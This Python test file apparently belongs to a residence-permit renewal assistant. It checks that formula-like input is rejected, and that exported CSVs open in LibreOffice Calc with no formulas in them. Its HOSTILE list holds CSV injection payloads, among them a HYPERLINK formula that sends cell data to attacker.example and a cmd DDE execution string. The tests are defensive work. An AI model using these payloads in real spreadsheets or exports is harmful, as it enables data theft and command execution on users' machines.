"""A CSV we export, opened by a real spreadsheet (LibreOffice Calc converting it as it opens a
CSV by default), holds no formula: a value a spreadsheet would take for a formula is a
validation error, and every value validation accepts goes out inert."""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from datetime import date

import pytest

from assistant.model.exports import bulk
from assistant.model.fields import catalogue
from assistant.model.validation import FieldContext, validate_field
from tests.isa_cases import ON, main_sheet_case

# Values a client could type that a spreadsheet reads as formulas (the reported ones first).
HOSTILE = ['=HYPERLINK("http://attacker.example/?"&C2,"詳細")', "=1+1", "\t=1+1", "\r=1+1",
           " =1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "＝1+1"]
# Values validation accepts in free-text fields though they hold formula characters.
INERT = ["A=B", "1+1", "霞が関1-2-3", "TRAN@EXAMPLE", "(1)", "1,000", "'=1+1", "月給=20万円"]
FREE_TEXT = ("remarks", "occupation")


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def _formulas_after_opening(csv_files, tmp_path) -> dict[str, list[str]]:
    """Open each CSV in LibreOffice Calc (default CSV import, UTF-8) and save it as xlsx; the
    formulas of every sheet by file."""
    out = tmp_path / "lo"
    profile = (tmp_path / "lo-profile").as_uri()
    proc = subprocess.run(
        [_soffice(), f"-env:UserInstallation={profile}", "--headless",
         "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(out),
         *map(str, csv_files)], capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    found: dict[str, list[str]] = {}
    for csv_file in csv_files:
        with zipfile.ZipFile(out / f"{csv_file.stem}.xlsx") as book:
            xml = "".join(book.read(n).decode() for n in book.namelist()
                          if n.startswith("xl/worksheets/"))
        found[csv_file.name] = [part.split("</f>")[0] for part in xml.split("<f")[1:]]
    return found


def test_formula_like_values_are_validation_errors():
    cat = catalogue("renewal")
    for key in FREE_TEXT:
        for value in HOSTILE:
            codes = [p.code for p in validate_field(cat.field(key), value, FieldContext(
                on=date(2026, 12, 7), values={key: value}, key=key, check_required=False))]
            assert "field_formula_start" in codes, (key, value)
        for value in INERT:
            assert not [p for p in validate_field(cat.field(key), value, FieldContext(
                on=date(2026, 12, 7), values={key: value}, key=key, check_required=False))
                if p.is_error], (key, value)


@pytest.mark.slow
@pytest.mark.skipif(_soffice() is None, reason="LibreOffice Calc is installed by dev.py test")
def test_values_that_pass_validation_go_out_inert_in_a_real_spreadsheet(tmp_path):
    # The control: the same spreadsheet turns a raw CSV of the hostile values into formulas,
    # so finding none in our export means something.
    raw = tmp_path / "raw.csv"
    raw.write_text("a\r\n" + "".join('"' + v.replace('"', '""') + '"\r\n' for v in HOSTILE),
                   encoding="utf-8-sig", newline="")
    # complete cases: the export validates every case and refuses one with errors
    cases = [main_sheet_case("renewal", f"c{i}", name="TRAN THI MAI",
                             **{key: value for key in FREE_TEXT})
             for i, value in enumerate(INERT)]
    result = bulk.export_csv(cases, tmp_path / "ours", on=ON)
    ours = tmp_path / "ours" / "renewal_main.csv"
    assert result.files == [ours]
    exported = ours.read_text(encoding="utf-8-sig")
    assert all(value in exported for value in INERT if '"' not in value)
    formulas = _formulas_after_opening([raw, ours], tmp_path)
    assert len(formulas["raw.csv"]) >= 3, formulas      # LibreOffice does make formulas
    assert formulas["renewal_main.csv"] == []


def test_cases_holding_formula_like_values_are_refused_by_the_export(tmp_path):
    """Each hostile value in a case: `export bulk` refuses the case (exit 1, no CSV written),
    so no spreadsheet ever opens it."""
    import json
    import sys

    written = []
    for index, value in enumerate(HOSTILE):
        case = tmp_path / f"case{index}.json"
        case.write_text(json.dumps({"format": "zairyu-assistant-case", "schema_version": 1,
                                    "procedure": "renewal",
                                    "values": {"name": "TRAN THI MAI", "remarks": value}}),
                        encoding="utf-8")
        out = tmp_path / f"out{index}"
        proc = subprocess.run([sys.executable, "-m", "assistant", "export", "bulk", str(case),
                               "--out", str(out)], capture_output=True, text=True, timeout=120)
        assert proc.returncode == 1, (value, proc.returncode, proc.stderr)
        written += sorted(out.glob("*.csv")) if out.exists() else []
    assert written == []
